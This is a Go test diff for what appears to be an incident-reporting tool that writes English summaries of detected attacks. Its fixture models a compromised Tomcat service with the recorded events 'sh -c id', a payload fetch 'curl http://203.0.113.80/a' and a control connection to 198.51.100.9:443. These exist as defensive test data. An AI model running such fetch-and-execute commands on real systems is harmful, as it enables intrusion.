@@ -198,3 +198,35 @@ func TestFrontWordsAreWhole(t *testing.T) {
 		}
 	}
 }
+
+// Of a server that was made to run something, nobody is told as who did it but where it was made to speak to; the measure names the
+// service.
+func TestRanByServer(t *testing.T) {
+	c := &tocsin.Campaign{ID: "c-1", Level: tocsin.High,
+		Actors:  []*tocsin.Actor{{ID: `user:web1\tomcat`, Handles: []tocsin.Entity{{Kind: "user", Value: `web1\tomcat`}}, Tie: tocsin.Core}},
+		Victims: []tocsin.Victim{{Entity: tocsin.Entity{Kind: "host", Value: "web1"}, Reached: true, Tie: tocsin.Core}},
+		Key: []tocsin.KeyEvent{
+			{Kind: "entry", Host: "web1", Account: `web1\tomcat`, Technique: "T1190", What: "sh -c id", Tie: tocsin.Core},
+			{Kind: "download", Host: "web1", What: "curl http://203.0.113.80/a", On: []string{"address:203.0.113.80", "url:http://203.0.113.80/a"}, Tie: tocsin.Core},
+			{Kind: "control", Host: "web1", What: "198.51.100.9:443", On: []string{"address:198.51.100.9", "host:web1"}, Tie: tocsin.Core},
+		}}
+	a := dossier{w: &english, h: &Hunt{}}
+	check := func(got text, want ...string) {
+		t.Helper()
+		for _, s := range want {
+			if !strings.Contains(got.plain(), s) {
+				t.Errorf("%q lacks %q", got.plain(), s)
+			}
+		}
+	}
+	check(a.frontWho(c), `not known; it was done as web1\tomcat, the account of the service`, "fetched from: 198.51.100.9, 203.0.113.80.")
+	check(a.frontIn(c), "a service was made to run sh -c id, on web1")
+	check(joinTexts(a.measures(c), " "), `the service that runs as web1\tomcat, on web1, which was made to run sh -c id`)
+	c.Key[0].Server = "tomcat9"
+	check(a.frontIn(c), "the service tomcat9 was made to run sh -c id")
+	check(joinTexts(a.measures(c), " "), "the service tomcat9 on web1, which was made to run sh -c id")
+	c.Key[0].From, c.Key[0].Server = "203.0.113.7", "" // a request is known
+	if got := a.frontIn(c).plain(); strings.Contains(got, "made to run") {
+		t.Errorf("of a request: %s", got)
+	}
+}
